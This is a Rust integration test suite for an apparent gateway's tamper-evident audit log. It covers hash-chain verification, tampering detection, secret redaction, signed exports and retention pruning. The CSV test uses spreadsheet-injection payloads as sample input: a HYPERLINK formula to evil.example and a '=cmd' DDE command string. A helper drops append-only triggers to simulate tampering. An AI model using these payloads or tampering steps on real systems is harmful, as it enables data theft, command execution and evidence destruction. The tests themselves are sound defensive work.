//! Issue 9 through the real binary: the audit chain verifies, each kind of raw-SQL tampering is
//! caught at its seq, audited changes fail closed, no secret reaches the log or an export, CSV
//! defuses formulas, the jsonl export verifies offline and breaks on any changed byte, and
//! retention pruning two years ahead keeps `verify` passing with the gap named.

mod common;

use std::path::PathBuf;

use chrono::{Duration, SecondsFormat, Utc};
use common::{Env, code, path_str, stderr, stdout};
use seliq_gateway::audit::{CheckpointSigner, parse_bundle, verify::verify_bundle};

const WS: &str = "acme-corp";
const CID: &str = "0123456789abcdef0123456789abcdef";

fn rfc3339(t: chrono::DateTime<Utc>) -> String {
    t.to_rfc3339_opts(SecondsFormat::Millis, true)
}

/// A workspace with `n` entries: `workspace.created`, then `audit.exported` entries.
fn seeded(n: usize) -> Env {
    let env = Env::new();
    env.ok(&["workspace", "create", WS]);
    for _ in 1..n {
        let out = env.dir.path().join("pad.csv");
        env.ok(&[
            "audit",
            "export",
            WS,
            "--format",
            "csv",
            "--output",
            path_str(&out),
        ]);
    }
    env
}

fn workspace_id(env: &Env, slug: &str) -> String {
    env.db()
        .query_row("SELECT id FROM workspaces WHERE slug = ?1", [slug], |r| {
            r.get(0)
        })
        .expect("workspace row")
}

fn head_seq(env: &Env) -> i64 {
    env.db()
        .query_row("SELECT max(seq) FROM audit_entries", [], |r| r.get(0))
        .expect("head")
}

/// What a tamperer with database access does: drop the append-only triggers, then edit.
fn tamper(env: &Env, sql: &str) {
    let db = env.db();
    db.execute_batch(
        "DROP TRIGGER IF EXISTS audit_entries_no_update;
         DROP TRIGGER IF EXISTS audit_entries_delete_only_pruned;",
    )
    .expect("drop triggers");
    db.execute_batch(sql).expect("tamper");
}

/// `audit verify` must exit 1 and name `seq` as the first break.
fn assert_breaks_at(env: &Env, seq: i64, reason_part: &str) {
    let out = env.run(&["audit", "verify", WS]);
    let err = stderr(&out);
    assert_eq!(code(&out), 1, "verify should fail: {err}{}", stdout(&out));
    assert!(
        err.contains(&format!("at seq {seq}:")),
        "expected a break at seq {seq}: {err}"
    );
    assert!(err.contains(reason_part), "expected {reason_part:?}: {err}");
}

/// The data dir's audit signer, as the gateway itself loads it (the stored audit key).
fn signer(env: &Env) -> CheckpointSigner {
    seliq_gateway::app::App::open(seliq_gateway::app::Config {
        data_dir: env.data_dir(),
        database_url: None,
        actor: "test-operator".into(),
    })
    .expect("open app")
    .who()
    .signer
    .clone()
}

fn export(env: &Env, format: &str, name: &str, extra: &[&str]) -> PathBuf {
    let path = env.dir.path().join(name);
    let mut args = vec![
        "audit",
        "export",
        WS,
        "--format",
        format,
        "--output",
        path_str(&path),
    ];
    args.extend_from_slice(extra);
    env.ok(&args);
    path
}

/// RFC 4180 parser, for checking what a spreadsheet would see.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![];
    let mut row = vec![];
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    assert!(cell.is_empty() && row.is_empty(), "CSV must end with CRLF");
    rows
}

#[test]
fn an_untouched_chain_verifies_and_reports_its_entry_count() {
    let env = seeded(3);
    let out = env.ok(&["audit", "verify", WS]);
    assert!(
        out.starts_with("OK: audit chain of acme-corp: 3 entries verified (seq 1–3)"),
        "{out}"
    );
}

#[test]
fn the_store_refuses_to_update_or_delete_audit_rows() {
    let env = seeded(2);
    let db = env.db();
    let update = db.execute("UPDATE audit_entries SET actor = 'mallory'", []);
    assert!(update.unwrap_err().to_string().contains("append-only"));
    let delete = db.execute("DELETE FROM audit_entries WHERE seq = 1", []);
    assert!(delete.unwrap_err().to_string().contains("append-only"));
    let cp = db.execute("DELETE FROM audit_checkpoints", []);
    assert!(cp.unwrap_err().to_string().contains("append-only"));
}

#[test]
fn a_changed_details_field_is_detected_at_its_seq() {
    let env = seeded(4);
    tamper(
        &env,
        r#"UPDATE audit_entries SET details = '{"entries":0}' WHERE seq = 3;"#,
    );
    assert_breaks_at(&env, 3, "changed after it was written");
}

#[test]
fn a_deleted_middle_entry_is_detected_at_its_seq() {
    let env = seeded(5);
    tamper(&env, "DELETE FROM audit_entries WHERE seq = 3;");
    assert_breaks_at(&env, 3, "missing");
}

#[test]
fn two_reordered_entries_are_detected_at_the_first_of_them() {
    let env = seeded(5);
    // seq is part of the primary key, so swap through a temporary value.
    tamper(
        &env,
        "UPDATE audit_entries SET seq = 1000 WHERE seq = 2;
         UPDATE audit_entries SET seq = 2 WHERE seq = 3;
         UPDATE audit_entries SET seq = 3 WHERE seq = 1000;",
    );
    assert_breaks_at(&env, 2, "prev_hash does not match");
}

#[test]
fn a_cut_off_tail_is_caught_by_the_checkpoint() {
    // Every export signs a checkpoint at the new head, so the head of this chain is anchored.
    let env = seeded(5);
    let head = head_seq(&env);
    assert_eq!(head, 5);
    env.ok(&["audit", "verify", WS]);
    tamper(&env, "DELETE FROM audit_entries WHERE seq >= 4;");
    // The remaining chain is internally consistent; only the checkpoint shows the loss.
    assert_breaks_at(&env, 4, "were cut off");
}

#[test]
fn a_forged_entry_appended_without_the_chain_is_detected() {
    let env = seeded(3);
    let ws = workspace_id(&env, WS);
    tamper(
        &env,
        &format!(
            "INSERT INTO audit_entries (workspace_id, seq, request_id, at, actor, action, target, outcome, details, prev_hash, hash)
             VALUES ('{ws}', 4, 'r', '2026-01-01T00:00:00.000Z', 'mallory', 'integration.disconnected', 'falcon', 'success', '{{}}',
                     '{zero}', '{zero}');",
            zero = "0".repeat(64)
        ),
    );
    assert_breaks_at(&env, 4, "prev_hash does not match");
}

#[test]
fn a_broken_chain_is_neither_exported_nor_pruned() {
    let env = seeded(3);
    tamper(
        &env,
        "UPDATE audit_entries SET actor = 'mallory' WHERE seq = 2;",
    );
    let out = env.run(&["audit", "export", WS, "--format", "jsonl", "--output", "-"]);
    assert_eq!(code(&out), 1);
    assert!(stderr(&out).contains("at seq 2"), "{}", stderr(&out));
    assert!(stdout(&out).is_empty());
    let later = rfc3339(Utc::now() + Duration::days(3650));
    let out = env.run_env(&["audit", "prune", WS], &[("SELIQ_NOW", &later)]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(
        stderr(&out).contains("nothing was pruned"),
        "{}",
        stderr(&out)
    );
    let segments: i64 = env
        .db()
        .query_row("SELECT count(*) FROM audit_segments", [], |r| r.get(0))
        .unwrap();
    assert_eq!(segments, 0);
}

#[test]
fn workspace_creation_fails_closed_when_the_audit_append_fails() {
    let env = Env::new();
    env.db()
        .execute_batch(
            "CREATE TRIGGER fail_audit BEFORE INSERT ON audit_entries WHEN NEW.action = 'workspace.created'
             BEGIN SELECT RAISE(ABORT, 'audit device unavailable'); END;",
        )
        .unwrap();
    let out = env.run(&["workspace", "create", WS]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let n: i64 = env
        .db()
        .query_row("SELECT count(*) FROM workspaces", [], |r| r.get(0))
        .unwrap();
    assert_eq!(n, 0, "the workspace must not exist without its audit entry");
    let keys: i64 = env
        .db()
        .query_row("SELECT count(*) FROM workspace_keys", [], |r| r.get(0))
        .unwrap();
    assert_eq!(keys, 0);
}

fn add_falcon(env: &Env, secret: &str) {
    let out = env.add_falcon_offline(WS, "falcon", "X", CID, secret);
    assert_eq!(code(&out), 0, "integration add: {}", stderr(&out));
}

#[test]
fn credential_rotation_fails_closed_when_the_audit_append_fails() {
    let env = Env::new();
    env.ok(&["workspace", "create", WS]);
    add_falcon(&env, "first-secret-value");
    env.db()
        .execute_batch(
            "CREATE TRIGGER fail_audit BEFORE INSERT ON audit_entries WHEN NEW.action = 'credential.rotated'
             BEGIN SELECT RAISE(ABORT, 'audit device unavailable'); END;",
        )
        .unwrap();
    let out = env.run_env(
        &[
            "credentials",
            "rotate",
            WS,
            "falcon",
            "--secret-env",
            "NEW_SECRET",
            "--no-verify",
        ],
        &[("NEW_SECRET", "second-secret-value")],
    );
    assert_ne!(code(&out), 0, "rotation must fail: {}", stdout(&out));
    let versions: Vec<(i64, String)> = {
        let db = env.db();
        let mut stmt = db
            .prepare("SELECT version, state FROM credentials ORDER BY version")
            .unwrap();
        stmt.query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
            .unwrap()
            .map(Result::unwrap)
            .collect()
    };
    assert_eq!(
        versions,
        vec![(1, "current".to_owned())],
        "the rotation must not have happened"
    );
}

#[test]
fn a_marker_secret_appears_in_no_audit_entry_or_export() {
    const MARKER: &str = "MARKER-s3cr3t-7f1c2e9a";
    const MARKER2: &str = "MARKER-r0tat3d-40b2aa11";
    let env = Env::new();
    env.ok(&[
        "workspace",
        "create",
        WS,
        "--description",
        "Critical 15m/4h",
    ]);
    env.ok(&["workspace", "create", "beta-corp"]);
    add_falcon(&env, MARKER);
    let out = env.run_env(
        &[
            "credentials",
            "rotate",
            WS,
            "falcon",
            "--secret-env",
            "NEW_SECRET",
            "--no-verify",
        ],
        &[("NEW_SECRET", MARKER2)],
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    env.ok(&["credentials", "rollback", WS, "falcon"]);
    env.ok(&["integration", "remove", WS, "falcon"]);
    env.ok(&["workspace", "delete", "beta-corp", "--confirm", "beta-corp"]);

    let mut texts = vec![];
    for (format, name) in [("csv", "a.csv"), ("json", "a.json"), ("jsonl", "a.jsonl")] {
        texts.push(std::fs::read_to_string(export(&env, format, name, &[])).unwrap());
    }
    let db = env.db();
    let mut stmt = db
        .prepare("SELECT actor || action || target || details || request_id FROM audit_entries")
        .unwrap();
    texts.extend(
        stmt.query_map([], |r| r.get::<_, String>(0))
            .unwrap()
            .map(Result::unwrap),
    );
    let actions: String = texts.join("\n");
    for wanted in [
        "integration.connected",
        "credential.rotated",
        "integration.disconnected",
        "workspace.deleted",
    ] {
        assert!(actions.contains(wanted), "{wanted} should be audited");
    }
    for t in &texts {
        assert!(
            !t.contains(MARKER) && !t.contains(MARKER2),
            "a secret leaked into the audit log: {t}"
        );
    }
}

#[test]
fn csv_export_uses_the_design_columns_and_defuses_formulas() {
    let env = Env::new();
    let desc = r#"=HYPERLINK("http://evil.example/steal","Click for SLA")"#;
    let out = env
        .cmd()
        .args([
            "--actor",
            "=cmd|' /C calc'!A0",
            "workspace",
            "create",
            WS,
            "--description",
            desc,
        ])
        .output()
        .unwrap();
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let scratch = env.dir.path().join("scratch.json");
    env.ok(&[
        "--actor",
        "+1-2@x",
        "audit",
        "export",
        WS,
        "--format",
        "json",
        "--output",
        path_str(&scratch),
    ]);

    // Default file name, in the current directory.
    let cwd = env.dir.path().join("exports");
    std::fs::create_dir(&cwd).unwrap();
    let out = env
        .cmd()
        .current_dir(&cwd)
        .args(["audit", "export", WS, "--format", "csv"])
        .output()
        .unwrap();
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let name = format!("acme-corp-audit-{}.csv", Utc::now().format("%Y%m%d"));
    let text = std::fs::read_to_string(cwd.join(&name)).expect("default file name");
    assert!(stdout(&out).contains(&name));

    let rows = parse_csv(&text);
    assert_eq!(
        rows[0],
        [
            "workspace",
            "seq",
            "at",
            "actor",
            "action",
            "target",
            "outcome",
            "details",
            "prev_hash",
            "hash",
            "request_id"
        ]
    );
    let created = &rows[1];
    assert_eq!(created[0], WS);
    assert_eq!(created[1], "1");
    assert_eq!(
        created[3], "'=cmd|' /C calc'!A0",
        "the actor cell must be defused"
    );
    assert_eq!(created[4], "workspace.created");
    assert_eq!(rows[2][3], "'+1-2@x");
    let details: serde_json::Value =
        serde_json::from_str(&created[7]).expect("details is a JSON string");
    assert_eq!(details["description"], desc);
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\0']),
            "a spreadsheet would evaluate {cell:?}"
        );
    }
    assert!(text.ends_with("\r\n") && !text.replace("\r\n", "").contains('\r'));
}

#[test]
fn a_jsonl_export_verifies_offline_and_one_changed_byte_fails() {
    let env = seeded(3);
    let path = export(&env, "jsonl", "acme.jsonl", &[]);
    let ok = env.ok(&["audit", "verify", WS, "--file", path_str(&path)]);
    assert!(ok.starts_with("OK: export"), "{ok}");
    assert!(ok.contains("3 entries verified (seq 1–3)"), "{ok}");

    let original = std::fs::read(&path).unwrap();
    let mut changed = original.clone();
    let at = original.windows(7).position(|w| w == b"\"actor\"").unwrap() + 10;
    changed[at] = if changed[at] == b'x' { b'y' } else { b'x' };
    let bad = env.dir.path().join("changed.jsonl");
    std::fs::write(&bad, &changed).unwrap();
    let out = env.run(&["audit", "verify", WS, "--file", path_str(&bad)]);
    assert_eq!(code(&out), 1, "{}", stdout(&out));
    assert!(stderr(&out).contains("at seq 1"), "{}", stderr(&out));

    // Every single-byte change anywhere in the file fails, checked in-process.
    let signer = signer(&env);
    let text = String::from_utf8(original).unwrap();
    assert!(verify_bundle(&parse_bundle(&text).unwrap(), &signer).is_ok());
    let bytes = text.as_bytes();
    for i in 0..bytes.len() {
        let mut b = bytes.to_vec();
        b[i] = if b[i] == b'0' { b'1' } else { b'0' };
        let t = String::from_utf8(b).unwrap();
        let verdict = parse_bundle(&t)
            .map_err(|_| ())
            .and_then(|bundle| verify_bundle(&bundle, &signer).map_err(|_| ()));
        assert!(
            verdict.is_err(),
            "changing byte {i} ({:?}) went unnoticed",
            bytes[i] as char
        );
    }
}

#[test]
fn dropping_lines_from_either_end_of_an_export_fails() {
    let env = seeded(4);
    let path = export(&env, "jsonl", "acme.jsonl", &[]);
    let text = std::fs::read_to_string(&path).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let check = |kept: Vec<&str>, seq: &str| {
        let p = env.dir.path().join("cut.jsonl");
        std::fs::write(&p, kept.join("\n")).unwrap();
        let out = env.run(&["audit", "verify", WS, "--file", path_str(&p)]);
        assert_eq!(code(&out), 1, "{}", stdout(&out));
        assert!(stderr(&out).contains(seq), "{}", stderr(&out));
    };
    // Header, entries 1..4, checkpoint.
    let mut head_cut = lines.clone();
    head_cut.remove(1);
    check(head_cut, "at seq 1");
    let mut tail_cut = lines.clone();
    tail_cut.remove(4);
    check(tail_cut, "at seq 4");
    let mut no_checkpoint = lines.clone();
    no_checkpoint.pop();
    check(no_checkpoint, "checkpoint");
}

#[test]
fn an_export_file_does_not_verify_under_another_data_dirs_key() {
    let env = seeded(2);
    let path = export(&env, "jsonl", "acme.jsonl", &[]);
    let other = Env::new();
    other.ok(&["workspace", "create", WS]);
    let out = other.run(&["audit", "verify", WS, "--file", path_str(&path)]);
    assert_eq!(code(&out), 1);
    assert!(
        stderr(&out).contains("signed under master key"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn the_export_is_itself_audited_with_format_range_and_count() {
    let env = seeded(2);
    let since = rfc3339(Utc::now() - Duration::hours(1));
    export(&env, "json", "a.json", &["--since", &since]);
    let text = std::fs::read_to_string(export(&env, "json", "b.json", &[])).unwrap();
    let entries: Vec<serde_json::Value> = serde_json::from_str(&text).expect("one JSON array");
    let last = entries.last().unwrap();
    assert_eq!(last["action"], "audit.exported");
    assert_eq!(last["actor"], "test-operator");
    assert_eq!(last["details"]["format"], "json");
    assert_eq!(last["details"]["since"], since);
    assert_eq!(last["details"]["entries"], 2);
    assert_eq!(
        (
            last["details"]["first_seq"].as_u64(),
            last["details"]["last_seq"].as_u64()
        ),
        (Some(1), Some(2))
    );
    assert!(last["request_id"].as_str().is_some_and(|r| r.len() == 36));
    assert!(last["at"].as_str().unwrap().ends_with('Z'));
}

#[test]
fn a_filtered_jsonl_export_verifies_as_a_piece_of_the_chain() {
    let env = seeded(3);
    let path = export(
        &env,
        "jsonl",
        "f.jsonl",
        &[
            "--since",
            "1h",
            "--until",
            &rfc3339(Utc::now() + Duration::hours(1)),
        ],
    );
    let out = env.ok(&["audit", "verify", WS, "--file", path_str(&path)]);
    assert!(out.contains("3 entries verified"), "{out}");
    let empty = export(
        &env,
        "jsonl",
        "e.jsonl",
        &["--until", "2001-01-01T00:00:00Z"],
    );
    let out = env.ok(&["audit", "verify", WS, "--file", path_str(&empty)]);
    assert!(out.contains("0 entries"), "{out}");
}

#[test]
fn a_deleted_workspaces_chain_is_still_exported_and_verified_by_slug() {
    let env = seeded(2);
    env.ok(&["workspace", "delete", WS, "--confirm", WS]);
    assert!(env.ok(&["audit", "verify", WS]).starts_with("OK"));
    let path = export(&env, "jsonl", "gone.jsonl", &[]);
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(
        text.lines()
            .rev()
            .nth(1)
            .unwrap()
            .contains("\"action\":\"workspace.deleted\"")
    );
    assert!(
        env.ok(&["audit", "verify", WS, "--file", path_str(&path)])
            .starts_with("OK")
    );
}

#[test]
fn pruning_two_years_ahead_keeps_verify_passing_and_names_the_gap() {
    let env = Env::new();
    let now = Utc::now();
    let later = rfc3339(now + Duration::days(700));
    let prune_at = rfc3339(now + Duration::days(730));
    env.ok(&["workspace", "create", WS, "--plan", "pro"]);
    export(&env, "csv", "x.csv", &[]);
    // seq 3 is written 700 days on: still inside a year's retention when pruning at 730 days.
    let out = env.run_env(
        &["audit", "export", WS, "--format", "csv", "--output", "-"],
        &[("SELIQ_NOW", &later)],
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));

    // Nothing is old enough today.
    assert!(env.ok(&["audit", "prune", WS]).contains("nothing to prune"));

    let out = env.run_env(&["audit", "prune"], &[("SELIQ_NOW", &prune_at)]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(
        stdout(&out).contains("acme-corp: pruned 2 audit entries (seq 1–2"),
        "{}",
        stdout(&out)
    );

    let db = env.db();
    let kept: Vec<(i64, String)> = {
        let mut stmt = db
            .prepare("SELECT seq, action FROM audit_entries ORDER BY seq")
            .unwrap();
        stmt.query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
            .unwrap()
            .map(Result::unwrap)
            .collect()
    };
    assert_eq!(
        kept,
        vec![
            (3, "audit.exported".to_owned()),
            (4, "audit.pruned".to_owned())
        ]
    );
    let (first, last): (i64, i64) = db
        .query_row(
            "SELECT min(first_seq), max(last_seq) FROM audit_segments",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert_eq!((first, last), (1, 2));

    let out = env.ok(&["audit", "verify", WS]);
    assert!(
        out.starts_with("OK: audit chain of acme-corp: 2 entries verified (seq 3–4)"),
        "{out}"
    );
    assert!(
        out.contains("gap: seq 1–2 pruned by retention") || out.contains("gap: seq 1–1 pruned"),
        "{out}"
    );

    // The verifiable export carries the manifests and still checks offline.
    let path = export(&env, "jsonl", "after.jsonl", &[]);
    let out = env.ok(&["audit", "verify", WS, "--file", path_str(&path)]);
    assert!(out.contains("pruned by retention"), "{out}");

    // A tamperer cannot widen or drop a manifest to pass off a deletion as pruning.
    tamper(
        &env,
        "DROP TRIGGER audit_segments_no_update; UPDATE audit_segments SET last_seq = 1, last_hash = 'x';",
    );
    assert_breaks_at(&env, 1, "pruned segment");
    tamper(
        &env,
        "DROP TRIGGER audit_segments_no_delete; DELETE FROM audit_segments;",
    );
    assert_breaks_at(&env, 1, "no pruned-segment manifest accounts for them");
}

#[test]
fn retention_days_are_configurable_per_plan() {
    let env = Env::new();
    env.ok(&["workspace", "create", WS, "--plan", "starter"]);
    let in_130_days = rfc3339(Utc::now() + Duration::days(130));
    let out = env.run_env(
        &["audit", "prune", WS],
        &[
            ("SELIQ_NOW", &in_130_days),
            ("SELIQ_RETENTION_DAYS_STARTER", "365"),
        ],
    );
    assert!(
        stdout(&out).contains("nothing to prune (plan starter, retention 365 days)"),
        "{}",
        stdout(&out)
    );
    let out = env.run_env(&["audit", "prune", WS], &[("SELIQ_NOW", &in_130_days)]);
    assert!(
        stdout(&out).contains("pruned 1 audit entry (seq 1, month"),
        "{}",
        stdout(&out)
    );
    let bad = env.run_env(
        &["audit", "prune"],
        &[("SELIQ_RETENTION_DAYS_PRO", "forever")],
    );
    assert_eq!(code(&bad), 2);
    assert!(
        stderr(&bad).contains("SELIQ_RETENTION_DAYS_PRO"),
        "{}",
        stderr(&bad)
    );
}

#[test]
fn verify_survives_master_key_rotations_and_old_exports_stay_verifiable() {
    let env = seeded(3);
    let old_export = export(&env, "jsonl", "before.jsonl", &[]);
    for key in [
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=",
        "AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE=",
    ] {
        let out = env.run_env(
            &["vault", "rotate-master-key", "--new-key-env", "NEW_KEY"],
            &[("NEW_KEY", key)],
        );
        assert_eq!(code(&out), 0, "{}", stderr(&out));
    }
    // The data dir now runs under the last key; the audit key was rewrapped, not replaced.
    let last = [(
        "SELIQ_MASTER_KEY",
        "AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE=",
    )];
    let out = env.run_env(&["audit", "verify", WS], &last);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let out = env.run_env(
        &["audit", "verify", WS, "--file", path_str(&old_export)],
        &last,
    );
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    // master.key was switched to the new key too: plain commands keep working.
    assert!(env.ok(&["audit", "verify", WS]).starts_with("OK"));
}
